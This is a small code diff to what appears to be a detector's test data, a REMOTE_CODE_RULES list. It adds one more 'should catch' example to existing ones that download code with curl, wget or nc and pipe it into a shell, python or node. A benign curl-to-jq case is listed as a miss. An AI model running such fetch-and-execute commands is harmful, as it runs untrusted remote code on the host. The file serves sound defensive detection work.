@@ -43,6 +43,7 @@ export const REMOTE_CODE_RULES: readonly Rule[] = [
         'wget https://example.com/a.py && python a.py',
         'curl https://example.com/x.js | node',
         'nc example.com 1 | sh',
+        'curl https://example.com/x | sed 1d > x.sh && sh x.sh',
       ],
       miss: [
         'curl https://example.com | jq .',
